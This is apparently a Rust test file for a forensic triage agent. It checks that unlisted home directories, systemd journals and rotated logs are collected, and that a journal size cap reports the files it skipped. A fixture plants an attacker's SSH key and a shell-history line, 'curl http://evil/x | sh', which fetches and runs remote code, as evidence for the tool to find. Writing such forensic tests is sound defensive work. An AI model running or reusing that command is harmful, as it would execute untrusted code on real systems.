//! What triage takes from a root beyond the obvious: homes that /etc/passwd does not name,
//! systemd journal files (the only login record on journald-only hosts), rotated logs, and
//! a journal cap that leaves out the oldest files and says so.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use cairn_agent::capture::disk::DiskOptions;
use cairn_agent::collect::{plan, CollectOptions};
use cairn_protocol::manifest::{CollectRequest, ItemHeader};
use std::path::Path;

fn request(profile: &str) -> CollectRequest {
    CollectRequest {
        collection_id: uuid::Uuid::new_v4().to_string(),
        profile: profile.into(),
        reason: "test".into(),
        requested_by: "test".into(),
        paths: Vec::new(),
        pid: None,
        container_id: None,
        devices: Vec::new(),
    }
}

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, bytes).unwrap();
}

fn set_mtime(root: &Path, rel: &str, secs: u64) {
    let f = std::fs::File::options()
        .write(true)
        .open(root.join(rel))
        .unwrap();
    f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs))
        .unwrap();
}

/// The planned items' headers of `profile` over `root`, and the plan's errors.
fn triage(
    root: &Path,
    profile: &str,
    dirs: Vec<std::path::PathBuf>,
) -> (Vec<ItemHeader>, Vec<String>) {
    let opts = CollectOptions {
        disk: DiskOptions {
            root: root.to_path_buf(),
            profile_dirs: dirs,
            ..Default::default()
        },
        ..Default::default()
    };
    let p = plan(&request(profile), &opts);
    (p.items.into_iter().map(|i| i.header).collect(), p.errors)
}

fn named<'a>(items: &'a [ItemHeader], name: &str) -> Option<&'a ItemHeader> {
    items.iter().find(|h| h.source.name == name)
}

#[test]
fn homes_beyond_passwd_journals_and_rotated_logs_are_collected() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    write(
        r,
        "etc/passwd",
        b"root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    write(r, "root/.bash_history", b"id\n");
    write(r, "home/alice/.bash_history", b"ls\n");
    // A user passwd does not know: deleted after the fact, or planted by hand.
    write(
        r,
        "home/ghost/.ssh/authorized_keys",
        b"ssh-ed25519 AAAA attacker\n",
    );
    write(r, "home/ghost/.bash_history", b"curl http://evil/x | sh\n");
    let mid = "0123456789abcdef0123456789abcdef";
    write(
        r,
        &format!("var/log/journal/{mid}/system.journal"),
        b"LPKSHHRH",
    );
    write(
        r,
        &format!("var/log/journal/{mid}/system@0001-0002.journal~"),
        b"LPKSHHRH",
    );
    write(
        r,
        &format!("run/log/journal/{mid}/system.journal"),
        b"LPKSHHRH",
    );
    write(r, "var/log/auth.log.2.gz", b"\x1f\x8b");
    write(r, "var/log/syslog.3.gz", b"\x1f\x8b");
    write(r, "var/log/secure-20261129.gz", b"\x1f\x8b");
    write(r, "var/log/messages-20261129.gz", b"\x1f\x8b");

    let (items, errors) = triage(r, "triage", Vec::new());
    let ghost = named(&items, "/home/ghost/.ssh/authorized_keys")
        .unwrap_or_else(|| panic!("ghost's authorized_keys not collected; errors {errors:?}"));
    assert_eq!(ghost.source.details["home"], "/home/ghost");
    assert_eq!(ghost.source.details["home_found"], "home_dir");
    let history = named(&items, "/home/ghost/.bash_history").unwrap();
    assert_eq!(history.source.details["home_found"], "home_dir");
    assert_eq!(
        named(&items, "/home/alice/.bash_history")
            .unwrap()
            .source
            .details["home_found"],
        "both"
    );
    assert_eq!(
        named(&items, "/root/.bash_history").unwrap().source.details["home_found"],
        "both"
    );
    for want in [
        format!("/var/log/journal/{mid}/system.journal"),
        format!("/var/log/journal/{mid}/system@0001-0002.journal~"),
        format!("/run/log/journal/{mid}/system.journal"),
        "/var/log/auth.log.2.gz".into(),
        "/var/log/syslog.3.gz".into(),
        "/var/log/secure-20261129.gz".into(),
        "/var/log/messages-20261129.gz".into(),
    ] {
        assert!(named(&items, &want).is_some(), "{want} not collected");
    }
}

#[test]
fn a_journal_cap_keeps_the_newest_files_and_says_what_it_left() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path().join("root");
    let kib = vec![b'j'; 1024];
    for (name, mtime) in [
        ("old.journal", 1_000),
        ("mid.journal", 2_000),
        ("new.journal", 3_000),
    ] {
        let rel = format!("var/log/journal/m/{name}");
        write(&r, &rel, &kib);
        set_mtime(&r, &rel, mtime);
    }
    let profiles = d.path().join("profiles");
    write(
        &profiles,
        "j.toml",
        b"name = \"j\"\n[[artifact]]\npaths = [\"/var/log/journal\"]\nmax_total_bytes = 2048\nnewest_first = true\n",
    );
    let (items, _) = triage(&r, "j", vec![profiles]);
    let files: Vec<&str> = items
        .iter()
        .filter(|h| h.source.name.ends_with(".journal"))
        .map(|h| h.source.name.as_str())
        .collect();
    assert_eq!(
        files,
        vec![
            "/var/log/journal/m/new.journal",
            "/var/log/journal/m/mid.journal"
        ]
    );
    // Not silent: the index item says what the cap left out, and the entry says why.
    let index = named(&items, "triage-index.json").unwrap();
    let capped = &index.source.details["capped"][0];
    assert_eq!(capped["files_skipped"], 1, "{capped:#}");
    assert_eq!(capped["bytes_skipped"], 1024);
}
